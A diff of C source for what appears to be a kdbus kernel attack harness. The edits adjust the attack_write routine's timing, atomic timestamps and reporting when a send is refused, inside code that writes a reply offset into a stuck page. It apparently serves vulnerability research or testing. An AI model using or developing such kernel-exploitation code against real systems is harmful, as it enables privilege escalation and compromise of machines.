@@ -28,7 +28,8 @@
 //                         writes the reply's offset into the command, in the
 //                         stuck page
 //   (attack answers errno=ENAME (- for success) ms=TIME of the SEND, for
-//   write the time from the reply to the caller's return)
+//   write the time from the reply to the caller's return, or reply=none and
+//   the call's own time when the call itself was refused)
 //   exit
 #define _GNU_SOURCE
 #include <errno.h>
@@ -208,7 +209,7 @@ struct waiting_call {
 static void *call_main(void *arg) {
   struct waiting_call *w = arg;
   w->err = ioctl(main_conn.fd, KDBUS_CMD_SEND, w->cmd) < 0 ? errno : 0;
-  w->returned = now_ns();
+  __atomic_store_n(&w->returned, now_ns(), __ATOMIC_RELEASE);
   return NULL;
 }
 
@@ -227,12 +228,19 @@ static void attack_write(size_t off) {
   // The call arrives at the second connection: the caller waits for its reply.
   struct kdbus_cmd_recv r;
   int e;
+  int64_t sent = now_ns();
   do {
     struct pollfd p = { aux_conn.fd, POLLIN, 0 };
-    poll(&p, 1, 5000);
+    poll(&p, 1, 100);
     memset(&r, 0, sizeof(r));
     r.size = sizeof(r);
     e = ioctl(aux_conn.fd, KDBUS_CMD_RECV, &r) < 0 ? errno : 0;
+    // A call refused before it arrived (this uid's copies refused at once):
+    // there is nothing to reply to.
+    if (e == EAGAIN && __atomic_load_n(&w.returned, __ATOMIC_ACQUIRE)) {
+      pthread_join(th, NULL);
+      return answer("ok errno=%s ms=%.1f reply=none", w.err ? ename(w.err) : "-", (double)(w.returned - sent) / 1e6);
+    }
   } while (e == EAGAIN);
   if (e) return answer("err %s recv", ename(e));
   const struct kdbus_msg *got = (const void *)(aux_conn.pool + r.msg.offset);
